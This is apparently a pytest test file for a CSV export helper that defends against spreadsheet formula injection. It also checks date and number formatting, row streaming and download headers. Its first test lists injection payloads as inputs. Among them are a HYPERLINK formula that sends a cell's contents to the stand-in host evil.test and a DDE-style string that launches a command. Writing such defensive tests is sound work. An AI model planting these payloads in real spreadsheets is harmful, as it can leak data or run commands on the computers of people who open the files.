"""What we write into somebody's spreadsheet is read there, and never run."""

import csv
import io
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from hypothesis import given, strategies as st

from core.exports import BOM, csv_lines, csv_response, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.test?c="&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠A1",
        "|cmd",
        "%0A=1",
    ],
)
def test_what_would_run_is_text(text):
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("Acme = Co", "Acme = Co"),
        ("0012-34", "0012-34"),
        ("", ""),
        (None, ""),
        (-3, "-3"),
        (Decimal("-10.50"), "-10.50"),
        (True, "yes"),
        (date(2026, 4, 27), "2026-04-27"),
        (datetime(2026, 4, 27, 14, 22, tzinfo=UTC), "2026-04-27T14:22:00.000Z"),
        (
            datetime(2026, 4, 27, 20, 22, tzinfo=timezone(timedelta(hours=6))),
            "2026-04-27T14:22:00.000Z",
        ),
        ("গেম কার্ড", "গেম কার্ড"),
        ("a\0b", "ab"),
    ],
)
def test_the_rest_stays_as_it_is(value, cell):
    assert safe_cell(value) == cell


@given(st.text())
def test_no_cell_begins_a_formula(text):
    assert safe_cell(text).lstrip()[:1] not in set("=+-@＝＋－＠")


@given(st.lists(st.tuples(st.text(), st.text()), max_size=5))
def test_a_row_comes_back_as_it_was_written(rows):
    text = "".join(csv_lines(["name", "reason"], rows))

    read = list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))

    assert read == [["name", "reason"], *([safe_cell(a), safe_cell(b)] for a, b in rows)]


def test_rows_are_streamed():
    asked = []

    def rows():
        for number in range(10_000):
            asked.append(number)
            yield [number]

    parts = csv_lines(["n"], rows())
    next(parts)

    assert len(asked) < 1000


def test_a_download_names_its_file_and_is_kept_nowhere():
    response = csv_response('books "May"/2026', ["order"], [["=1"]])

    assert response["Content-Disposition"] == 'attachment; filename="books_May2026.csv"'
    assert response["Cache-Control"] == "no-store"
    assert b"".join(response).decode() == f"{BOM}order\r\n'=1\r\n"
